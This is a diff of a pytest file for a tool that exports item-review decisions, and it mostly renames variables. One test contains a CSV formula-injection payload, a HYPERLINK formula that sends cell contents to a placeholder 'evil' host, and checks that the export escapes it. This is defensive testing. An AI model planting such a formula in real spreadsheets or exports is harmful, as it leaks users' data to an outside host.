@@ -38,9 +38,9 @@ def verdicts(bench):
 @pytest.mark.parametrize("kind", ["csv", "jsonl"])
 def test_every_decision_is_exported_with_its_reasons(three, review, reviewers, tmp_path, kind):
     review({"a": "reject"}, {"a": ("KEY_WRONG", "AMBIGUOUS_STEM")}, comment="look again")
-    told = export_decisions(tmp_path / "out", kind)
-    found = {name.partition(".")[0]: rows(tmp_path / "out" / name) for name in told}
-    assert {name: len(part) for name, part in found.items()} == {
+    outcomes = export_decisions(tmp_path / "out", kind)
+    results = {name.partition(".")[0]: rows(tmp_path / "out" / name) for name in outcomes}
+    assert {name: len(part) for name, part in results.items()} == {
         "reviews": 6,
         "blind_answers": 6,
         "reasons": 4,
@@ -48,12 +48,12 @@ def test_every_decision_is_exported_with_its_reasons(three, review, reviewers, t
         "adjudications": 0,
     }
     pseudonyms = {reviewer.pseudonym for reviewer in reviewers}
-    assert {row["reader"] for row in found["reviews"]} == pseudonyms
-    rejected = [row for row in found["reviews"] if row["decision"] == "reject"]
+    assert {row["reader"] for row in results["reviews"]} == pseudonyms
+    rejected = [row for row in results["reviews"] if row["decision"] == "reject"]
     assert {row["item"] for row in rejected} == {"a"}
     assert {row["comment"] for row in rejected} == {"look again"}
-    assert {row["code"] for row in found["reasons"]} == {"KEY_WRONG", "AMBIGUOUS_STEM"}
-    assert {str(row["answer_is_key"]).casefold() for row in found["reviews"]} <= {"yes", "true"}
+    assert {row["code"] for row in results["reasons"]} == {"KEY_WRONG", "AMBIGUOUS_STEM"}
+    assert {str(row["answer_is_key"]).casefold() for row in results["reviews"]} <= {"yes", "true"}
 
 
 def test_an_adjudication_is_exported_under_a_pseudonym(three, review, person, tmp_path):
@@ -93,25 +93,25 @@ def test_a_comment_cannot_become_a_formula(three, review, tmp_path):
     nasty = '=HYPERLINK("http://evil/?"&A1,"x"),"\r\n-1'
     review({"a": "reject"}, comment=nasty)
     export_decisions(tmp_path / "out", "csv")
-    found = {row["comment"] for row in rows(tmp_path / "out" / "reviews.csv")}
-    assert found == {"'" + nasty}
+    comments = {row["comment"] for row in rows(tmp_path / "out" / "reviews.csv")}
+    assert comments == {"'" + nasty}
 
 
 def test_every_item_flows_back_with_state_wording_and_reviewers(three, review, person):
     review({"b": "reject"})
     edit("c", 1, person("manager"), EDIT)
-    told = write_verdicts(three.workspace.root)
-    found = verdicts(three)
-    assert {name: row["state"] for name, row in found.items()} == {
+    export = write_verdicts(three.workspace.root)
+    result = verdicts(three)
+    assert {name: row["state"] for name, row in result.items()} == {
         "a": "accepted",
         "b": "rejected",
         "c": "queued",
     }
-    assert (told.items, told.accepted) == (3, 1)
-    assert [found[name]["readers"] for name in "abc"] == [2, 2, 0]
-    assert (found["c"]["version"], found["c"]["edited"]) == (2, True)
-    assert [option["text"] for option in found["c"]["options"]] == list(WORDS)
-    assert found["c"]["options"][1]["ids"] == ["hpo:HP:0000001"]
+    assert (export.items, export.accepted) == (3, 1)
+    assert [result[name]["readers"] for name in "abc"] == [2, 2, 0]
+    assert (result["c"]["version"], result["c"]["edited"]) == (2, True)
+    assert [option["text"] for option in result["c"]["options"]] == list(WORDS)
+    assert result["c"]["options"][1]["ids"] == ["hpo:HP:0000001"]
 
 
 def test_the_summary_holds_head_coverage_and_agreement(three, review):
@@ -148,9 +148,9 @@ def test_gold_items_never_flow_back(three, take_in, person):
     take_in()
     change = Edit(question=EDIT.question, options=WORDS, key=2, note="n")
     gold = make_gold(LONG, 1, person("manager"), defect="KEY_WRONG", change=change)
-    told = write_verdicts(three.workspace.root)
+    export = write_verdicts(three.workspace.root)
     text = (three.workspace.root / "accepted.jsonl").read_text()
-    assert (told.items, gold.pk in text) == (4, False)
+    assert (export.items, gold.pk in text) == (4, False)
 
 
 def test_nothing_is_written_when_the_trail_was_changed(three, review):
@@ -211,9 +211,9 @@ def _claims(key):
 def test_a_release_reads_what_the_queue_wrote(three, review):
     review()
     write_verdicts(three.workspace.root)
-    found = load_review_results(three.workspace.root)
-    assert found.verdicts["a"].options == three.items["a"].options
-    assert found.verdicts["a"].state == "accepted"
+    review_results = load_review_results(three.workspace.root)
+    assert review_results.verdicts["a"].options == three.items["a"].options
+    assert review_results.verdicts["a"].state == "accepted"
 
 
 @pytest.mark.thorough
